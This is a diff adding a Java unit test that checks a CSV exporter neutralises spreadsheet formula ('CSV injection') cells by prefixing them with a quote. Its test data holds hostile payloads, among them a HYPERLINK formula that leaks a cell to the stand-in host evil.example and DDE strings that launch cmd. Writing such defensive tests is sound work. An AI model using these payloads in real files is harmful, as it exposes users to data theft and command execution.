@@ -68,4 +68,29 @@ class ExportRequestTest {
     row.appendCsv(out);
     assertEquals("\"a,b\",\"say \"\"hi\"\"\r\n\",1,2,10,0,0,1,100,0\r\n", out.toString());
   }
+
+  @Test
+  void csvCellsThatASpreadsheetWouldRunAsFormulasStartWithAQuote() {
+    // OWASP "CSV injection": a cell starting with = + - @ tab or CR is a formula to Excel, LibreOffice and Sheets.
+    List<String> hostile = List.of("=HYPERLINK(\"http://evil.example/?d=\"&A1,\"open\")", "+1+cmd|' /C calc'!A0",
+        "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+2", "\r=1+2");
+    List<String> neutral = List.of("\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"open\"\")\"",
+        "\"'+1+cmd|' /C calc'!A0\"", "\"'-2+3\"", "\"'@SUM(1+1)*cmd|' /C calc'!A0\"", "\"'\t=1+2\"", "\"'\r=1+2\"");
+    for (int i = 0; i < hostile.size(); i++) {
+      StringBuilder out = new StringBuilder();
+      ExportRow.appendCsvField(out, hostile.get(i));
+      assertEquals(neutral.get(i), out.toString(), hostile.get(i));
+    }
+    // Only the first character counts; empty (no user) stays empty; the totals are numbers, never negative.
+    for (String safe : List.of("a=b", "a-b", "user@example.com", "", "'quoted", " =1")) {
+      StringBuilder out = new StringBuilder();
+      ExportRow.appendCsvField(out, safe);
+      assertEquals(safe, out.toString());
+    }
+    ExportRow row = new ExportRow(List.of("user_id", "model"), List.of("=1+1", "-m"), BigInteger.ONE, BigInteger.TWO,
+        BigInteger.TEN, BigInteger.ZERO, BigInteger.ZERO, BigInteger.ONE, new BigDecimal("0.5"), BigDecimal.ZERO);
+    StringBuilder out = new StringBuilder();
+    row.appendCsv(out);
+    assertEquals("\"'=1+1\",\"'-m\",1,2,10,0,0,1,0.5,0\r\n", out.toString());
+  }
 }
